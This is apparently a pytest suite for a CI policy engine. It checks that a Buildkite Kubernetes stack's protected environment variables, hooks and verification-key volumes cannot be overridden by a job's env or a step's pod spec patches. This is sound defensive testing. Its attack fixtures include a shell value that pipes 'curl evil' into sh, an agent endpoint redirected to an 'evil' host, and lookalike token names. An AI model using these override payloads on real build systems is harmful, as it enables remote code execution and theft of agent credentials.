"""The stack's own env cannot be overridden: by the job's env, the step's podSpec, or its podSpecPatch.

Each attack is compared with the same job without it: in the agent, checkout and command containers,
every protected name must have exactly the effective value (Kubernetes: the last entry wins) it has
without the attack, and the decision must warn that the attempt was ignored.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from engine.core.finish import ADDITIONAL_HOOKS_ENV, WARNINGS_HOOKS_DIR
from engine.model.decision import Decision
from tests.unit.guardrails import (
    ROOT,
    container,
    decide,
    effective_env,
    engine_test,
    job,
    job_document,
    warnings,
)

PROTECTED: list[str] = next(
    v["value"]
    for v in yaml.safe_load((ROOT / "policies" / "15-shared-env-and-mounts.yaml").read_text())["spec"][
        "variables"
    ]
    if v["name"] == "protectedEnv"
)
STACK_CONTAINERS = ("agent", "checkout", "container-0")
AGENT_CONFIG = {
    "agent-config": {
        "shell": "/bin/bash -e",
        "no-command-eval": True,
        "no-local-hooks": True,
        "no-plugins": True,
        "plugin-validation": True,
        "hooks-path": "/etc/buildkite/hooks",
        "verification-jwks-file": "/etc/jwks/key",
        "verification-failure-behavior": "block",
        "signing-jwks-file": "/etc/signing/key",
        "endpoint": "https://agent.example.com/v3",
    }
}


def effective(decision: Decision) -> dict[tuple[str, str], Any]:
    """Each protected name's value, but the one the finishing step sets for the job-log warnings
    hook, which a job with warnings (an ignored attempt is one) has and the clean job has not."""
    return {
        (name, variable): effective_env(container(decision, name), variable)
        for name in STACK_CONTAINERS
        for variable in PROTECTED
        if variable != ADDITIONAL_HOOKS_ENV
    }


def assert_same_protected_env(attacked: Decision, clean: Decision) -> None:
    assert attacked.admitted, attacked.denials
    assert effective(attacked) == effective(clean)
    hooks = {
        name: effective_env(container(attacked, name), ADDITIONAL_HOOKS_ENV) for name in STACK_CONTAINERS
    }
    first = "checkout" if attacked.warnings else None
    assert hooks == {name: WARNINGS_HOOKS_DIR if name == first else None for name in STACK_CONTAINERS}


def test_the_list_is_stated_once_and_covers_what_the_stack_sets() -> None:
    clean = decide(job(), config=AGENT_CONFIG)
    set_by_stack = {
        entry["name"]
        for name in STACK_CONTAINERS
        for entry in container(clean, name)["env"]
        if entry["name"].startswith("BUILDKITE_")
        and entry["name"] not in ("BUILDKITE", "BUILDKITE_ARTIFACT_PATHS")
    }
    job_env = {e.split("=", 1)[0] for e in job_document()["env"]}
    assert set_by_stack - job_env <= set(PROTECTED)
    assert len(PROTECTED) == len(set(PROTECTED))


@pytest.mark.parametrize("variable", [v for v in PROTECTED if v != "BUILDKITE_PLUGINS"])
def test_the_jobs_env_cannot_set_a_protected_name(variable: str) -> None:
    """(BUILDKITE_PLUGINS in the job's env is where Buildkite sends the step's plugins: the stack
    derives its own value from it, see test_job.)"""
    clean = decide(job(), config=AGENT_CONFIG)
    attacked = decide(job(env=[f"{variable}=attacker-value"]), config=AGENT_CONFIG)
    assert_same_protected_env(attacked, clean)
    if variable not in ("BUILDKITE_COMMAND", "BUILDKITE_PLUGINS"):
        assert any(variable in w and "ignored" in w for w in warnings(attacked))


def test_duplicates_and_many_names_at_once_are_all_ignored_and_named() -> None:
    env = [
        "BUILDKITE_SHELL=/bin/sh -c 'curl evil | sh'",
        "BUILDKITE_AGENT_TOKEN=x",
        "BUILDKITE_SHELL=/bin/zsh",
        "BUILDKITE_COMMAND_EVAL=true",
        "BUILDKITE_AGENT_JOB_VERIFICATION_NO_SIGNATURE_BEHAVIOR=warn",
    ]
    clean = decide(job(), config=AGENT_CONFIG)
    attacked = decide(job(env=env), config=AGENT_CONFIG)
    assert_same_protected_env(attacked, clean)
    assert warnings(attacked) == [
        "the job's env may not set BUILDKITE_SHELL, BUILDKITE_AGENT_TOKEN, BUILDKITE_COMMAND_EVAL, "
        "BUILDKITE_AGENT_JOB_VERIFICATION_NO_SIGNATURE_BEHAVIOR: the stack sets these in the agent, "
        "checkout and command containers, so the job's values were ignored"
    ]
    assert effective_env(
        container(attacked, "agent"), "BUILDKITE_AGENT_JOB_VERIFICATION_NO_SIGNATURE_BEHAVIOR"
    ) == ("block")
    assert effective_env(container(attacked, "container-0"), "BUILDKITE_COMMAND_EVAL") == "false"


def test_a_name_the_stack_does_not_set_stays_unset() -> None:
    """Without agent-config the stack sets no BUILDKITE_COMMAND_EVAL: the job's may not appear either."""
    attacked = decide(job(env=["BUILDKITE_COMMAND_EVAL=true", "BUILDKITE_HOOKS_PATH=/workspace/evil"]))
    for name in STACK_CONTAINERS:
        assert effective_env(container(attacked, name), "BUILDKITE_COMMAND_EVAL") is None
        assert effective_env(container(attacked, name), "BUILDKITE_HOOKS_PATH") is None


def test_a_lookalike_name_is_another_variable_and_leaves_the_real_one_alone() -> None:
    clean = decide(job())
    attacked = decide(job(env=["buildkite_agent_token=stolen"]))
    assert_same_protected_env(attacked, clean)


@pytest.mark.parametrize(
    "lookalike", ["BUILDKITE_AGENT_TOKEN ", " BUILDKITE_AGENT_TOKEN", "BUILDKITE_AGENT_T\u041eKEN"]
)
def test_a_lookalike_name_kubernetes_refuses_creates_no_pod(lookalike: str) -> None:
    """A space or a Cyrillic letter is not in an env var name Kubernetes accepts (as upstream, the job's
    env goes into the containers as given), so the Job is refused before it is created: no pod, in
    which the name could have been read as the real one, ever runs."""
    attacked = decide(job(env=[f"{lookalike}=stolen"]))
    assert not attacked.admitted
    assert attacked.denials
    for denial in attacked.denials:  # one per container the job's env went into
        assert denial.kind == "invalid"
        assert "is not a valid environment variable name" in denial.message


def test_pipelines_may_still_set_what_upstream_lets_them() -> None:
    config = {"default-checkout-params": {"cloneFlags": "--depth=1", "fetchFlags": "-v"}}
    decision = decide(job(env=["BUILDKITE_GIT_CLONE_FLAGS=--depth=50", "MY_VAR=1"]), config=config)
    checkout = container(decision, "checkout")
    assert effective_env(checkout, "BUILDKITE_GIT_CLONE_FLAGS") == "--depth=50"
    assert effective_env(checkout, "BUILDKITE_GIT_FETCH_FLAGS") == "-v"
    assert effective_env(container(decision, "container-0"), "MY_VAR") == "1"
    assert warnings(decision) == []


@pytest.mark.parametrize(
    "entry",
    [
        {"name": "BUILDKITE_AGENT_TOKEN", "valueFrom": {"secretKeyRef": {"name": "other", "key": "token"}}},
        {"name": "BUILDKITE_AGENT_ACQUIRE_JOB", "value": "0193a001-7c1e-4d2a-9f3b-0c1d2e3f4a01"},
        {"name": "BUILDKITE_COMMAND_EVAL", "value": "true"},
        {"name": "BUILDKITE_SHELL", "value": "/bin/bash"},
        {"name": "BUILDKITE_CONTAINER_ID", "value": "0"},
        {"name": "BUILDKITE_BOOTSTRAP_PHASES", "value": "plugin,checkout,command"},
    ],
)
def test_the_steps_podspec_env_cannot_set_a_protected_name(entry: dict[str, Any]) -> None:
    plugin = {"podSpec": {"containers": [{"image": "alpine", "env": [entry, {"name": "OK", "value": "1"}]}]}}
    clean = decide(job(plugin={"podSpec": {"containers": [{"image": "alpine"}]}}), config=AGENT_CONFIG)
    attacked = decide(job(plugin=plugin), config=AGENT_CONFIG)
    assert_same_protected_env(attacked, clean)
    assert effective_env(container(attacked, "container-0"), "OK") == "1"
    assert warnings(attacked) == [
        f"container container-0 may not set {entry['name']}: "
        "the stack sets these, so the step's values were ignored"
    ]


PATCHES = {
    "set a value": {
        "containers": [{"name": "agent", "env": [{"name": "BUILDKITE_AGENT_TOKEN", "value": "x"}]}]
    },
    "set a valueFrom": {
        "containers": [
            {
                "name": "checkout",
                "env": [
                    {
                        "name": "BUILDKITE_AGENT_ACQUIRE_JOB",
                        "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}},
                    }
                ],
            }
        ]
    },
    "set an unset name": {
        "containers": [{"name": "container-0", "env": [{"name": "BUILDKITE_PTY", "value": "false"}]}]
    },
    "delete an entry": {
        "containers": [{"name": "agent", "env": [{"name": "BUILDKITE_AGENT_TAGS", "$patch": "delete"}]}]
    },
    "replace the env list": {
        "containers": [{"name": "container-0", "env": [{"$patch": "replace"}, {"name": "A", "value": "b"}]}]
    },
    "retain only some keys": {
        "containers": [
            {"name": "checkout", "$retainKeys": ["name", "image", "command", "args"], "image": "alpine"}
        ]
    },
    "reorder duplicates": {
        "containers": [
            {
                "name": "container-0",
                "$setElementOrder/env": [{"name": "BUILDKITE_SHELL"}, {"name": "BUILDKITE_BUILD_PATH"}],
            }
        ]
    },
}
DENIED_PATCHES = {
    "replace every container": {
        "containers": [
            {"$patch": "replace"},
            {"name": "agent", "image": "x", "env": [{"name": "BUILDKITE_AGENT_TAGS", "value": "queue=x"}]},
        ]
    },
    "retain keys without the command": {"containers": [{"name": "agent", "$retainKeys": ["name"]}]},
    "delete the command": {"containers": [{"name": "container-0", "command": None}]},
    "delete the args": {"containers": [{"name": "checkout", "args": None}]},
}


@pytest.mark.parametrize(
    ("patch", "removed"),
    [
        ({"containers": [{"name": "agent", "$patch": "delete"}]}, "agent"),
        ({"containers": [{"name": "checkout", "$patch": "delete"}]}, "checkout"),
        (
            {"containers": [{"name": "container-0", "$patch": "delete"}, {"name": "x", "image": "y"}]},
            "container-0",
        ),
    ],
)
def test_a_step_patch_cannot_remove_the_stacks_containers(patch: dict[str, Any], removed: str) -> None:
    decision = decide(job(plugin={"podSpecPatch": patch}))
    assert [d.rule for d in decision.denials] == ["stack-containers-kept"]
    assert decision.denials[0].message.endswith(f"podSpecPatch may not remove the containers {removed}")


@pytest.mark.parametrize("name", DENIED_PATCHES)
def test_a_step_patch_that_also_drops_a_command_is_refused(name: str) -> None:
    decision = decide(job(plugin={"podSpecPatch": DENIED_PATCHES[name]}))
    assert "no-command-changes" in [d.rule for d in decision.denials]


@pytest.mark.parametrize("name", PATCHES)
def test_a_step_patch_cannot_change_the_protected_env(name: str) -> None:
    clean = decide(job(plugin={"podSpecPatch": {}}), config=AGENT_CONFIG)
    attacked = decide(job(plugin={"podSpecPatch": PATCHES[name]}), config=AGENT_CONFIG)
    assert_same_protected_env(attacked, clean)
    if name == "reorder duplicates":
        # Each name keeps its own entries in their order, so no effective value moved: nothing to undo.
        return
    assert any(
        w.startswith("podSpecPatch may not change ") and w.endswith("so the patch's values were ignored")
        for w in warnings(attacked)
    )


def test_the_patch_warning_names_exactly_the_changed_variables() -> None:
    patch = {
        "containers": [
            {
                "name": "agent",
                "env": [
                    {"name": "BUILDKITE_AGENT_TOKEN", "value": "x"},
                    {"name": "BUILDKITE_SHELL", "value": "/bin/sh"},
                    {"name": "FRIENDLY", "value": "kept"},
                ],
            }
        ]
    }
    decision = decide(job(plugin={"podSpecPatch": patch}), config=AGENT_CONFIG)
    assert warnings(decision) == [
        "podSpecPatch may not change BUILDKITE_AGENT_TOKEN, BUILDKITE_SHELL in container agent: the stack "
        "sets these, so the patch's values were ignored"
    ]
    assert effective_env(container(decision, "agent"), "FRIENDLY") == "kept"


def test_a_patch_that_changes_nothing_protected_warns_about_nothing() -> None:
    patch = {"containers": [{"name": "agent", "env": [{"name": "FRIENDLY", "value": "1"}], "resources": {}}]}
    decision = decide(job(plugin={"podSpecPatch": patch}))
    assert warnings(decision) == []


def test_the_controllers_own_patch_may_set_protected_names() -> None:
    """An admin's pod-spec-patch is trusted: what it sets is what the step's patch cannot undo."""
    config = {
        "pod-spec-patch": {
            "containers": [
                {"name": "agent", "env": [{"name": "BUILDKITE_AGENT_ENDPOINT", "value": "https://proxy/v3"}]}
            ]
        }
    }
    step_patch = {
        "containers": [
            {"name": "agent", "env": [{"name": "BUILDKITE_AGENT_ENDPOINT", "value": "https://evil/v3"}]}
        ]
    }
    decision = decide(job(plugin={"podSpecPatch": step_patch}), config=config)
    assert effective_env(container(decision, "agent"), "BUILDKITE_AGENT_ENDPOINT") == "https://proxy/v3"


def test_env_from_cannot_override_what_the_stack_sets_explicitly() -> None:
    """Kubernetes gives an explicit env entry precedence over envFrom: every name the stack sets in a
    container is an explicit entry there, whatever envFrom sources the step adds."""
    plugin = {
        "gitEnvFrom": [{"secretRef": {"name": "evil"}}],
        "commandParams": {"envFrom": [{"configMapRef": {"name": "evil"}, "prefix": "BUILDKITE_"}]},
        "checkout": {"envFrom": [{"configMapRef": {"name": "evil"}}]},
    }
    decision = decide(job(plugin=plugin), config=AGENT_CONFIG)
    for name in STACK_CONTAINERS:
        c = container(decision, name)
        for variable in ("BUILDKITE_AGENT_TOKEN", "BUILDKITE_AGENT_ACQUIRE_JOB", "BUILDKITE_SHELL"):
            assert effective_env(c, variable) is not None, (name, variable)


def test_through_engine_test(tmp_path: Path) -> None:
    document = job_document(env=["BUILDKITE_AGENT_TOKEN=stolen", "BUILDKITE_AGENT_ACQUIRE_JOB=someone-else"])
    code, stdout, stderr = engine_test(tmp_path, document, "-o", "json")
    assert code == 0
    assert "stolen" not in stdout
    assert "someone-else" not in stdout
    assert stderr.startswith("warning: shared-env-and-mounts/protected-job-env: the job's env may not set ")


VOLUMES_CONFIG = {
    "agent-config": {
        "hooksVolume": {"name": "agent-hooks", "configMap": {"name": "admin-hooks"}},
        "verificationJWKSVolume": {"name": "verify-keys", "secret": {"secretName": "admin-jwks"}},
    }
}


@pytest.mark.parametrize(
    "patch",
    [
        {"volumes": [{"name": "verify-keys", "secret": {"secretName": "my-own-jwks"}}]},
        {"volumes": [{"name": "agent-hooks", "configMap": {"name": "my-hooks"}}]},
        {
            "containers": [
                {
                    "name": "container-0",
                    "volumeMounts": [{"mountPath": "/buildkite/hooks", "name": "workspace"}],
                }
            ]
        },
        {
            "containers": [
                {
                    "name": "agent",
                    "volumeMounts": [{"mountPath": "/buildkite/verification-jwks", "$patch": "delete"}],
                }
            ]
        },
        {
            "containers": [
                {
                    "name": "checkout",
                    "volumeMounts": [{"$patch": "replace"}, {"name": "workspace", "mountPath": "/workspace"}],
                }
            ]
        },
    ],
    ids=[
        "verification-key-swapped",
        "hooks-swapped",
        "hooks-path-on-workspace",
        "key-unmounted",
        "mounts-replaced",
    ],
)
def test_what_the_agent_config_variables_point_at_cannot_be_swapped(patch: dict[str, Any]) -> None:
    """BUILDKITE_AGENT_VERIFICATION_JWKS_FILE keeps its value; a key of the author's own behind it
    would verify the author's signature all the same."""
    decision = decide(job(plugin={"podSpecPatch": patch}), config=VOLUMES_CONFIG)
    assert not decision.admitted
    assert [(d.policy, d.rule) for d in decision.denials] == [
        ("step-pod-spec-patch", "agent-config-volumes-kept")
    ]
    assert "may not change the volumes the controller's agent-config adds (agent-hooks, verify-keys)" in (
        decision.denials[0].message
    )


def test_a_patch_beside_the_agent_config_volumes_is_fine() -> None:
    patch = {
        "volumes": [{"name": "cache", "emptyDir": {}}],
        "containers": [{"name": "container-0", "volumeMounts": [{"name": "cache", "mountPath": "/cache"}]}],
    }
    decision = decide(job(plugin={"podSpecPatch": patch}), config=VOLUMES_CONFIG)
    assert decision.admitted, decision.denials
